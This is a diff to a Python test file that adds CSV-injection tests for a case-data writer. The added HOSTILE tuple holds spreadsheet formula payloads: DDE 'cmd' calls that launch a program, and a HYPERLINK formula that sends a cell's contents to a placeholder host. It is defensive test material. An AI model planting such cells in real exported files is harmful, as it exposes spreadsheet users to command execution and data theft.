@@ -3,6 +3,8 @@ a reason naming the column, the value and what is allowed; writing reads back th
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 from pathlib import Path
 
@@ -256,3 +258,45 @@ def test_values_needing_quotes_round_trip() -> None:
 def test_as_csv_row_writes_lists_with_semicolons_and_the_age_as_text() -> None:
     row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
     assert row.as_csv_row() == GOOD
+
+
+# Cells a spreadsheet would run as a formula (CSV injection), lower-case as the dataset's values
+# are: each leads with a character some spreadsheet starts a formula with, some after spaces.
+HOSTILE = (
+    "=cmd|' /c calc'!a0",
+    '=hyperlink("http://example.invalid/?x="&a1,"open")',
+    "+1+cmd|' /c calc'!a0",
+    "-2+3",
+    "@sum(1+1)*cmd|' /c calc'!a0",
+    "  =1+1",
+    "'=already marked",
+)
+
+
+def _formula_cells(text: str) -> list[str]:
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text, newline=""))
+        for cell in row
+        if cell.lstrip(" ").startswith(starts)
+    ]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_hostile_cell_is_written_as_text_and_read_back_as_it_was(hostile: str) -> None:
+    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
+    planted = replace(
+        row, case_id=hostile, area=hostile, child_ethnicity=hostile, extra={"notes": hostile}
+    )
+    written = write_cases([planted])
+    assert _formula_cells(written) == []  # no cell, in any column, starts a formula
+    assert read_cases(written) == ([planted], [])
+
+
+def test_a_column_named_as_a_formula_is_written_as_text_and_read_back() -> None:
+    row = read_cases(f"{HEADER}\n{line()}\n")[0][0]
+    planted = replace(row, extra={"=cmd|' /c calc'!a0": "x"})
+    written = write_cases([planted])
+    assert _formula_cells(written) == []
+    assert read_cases(written) == ([planted], [])
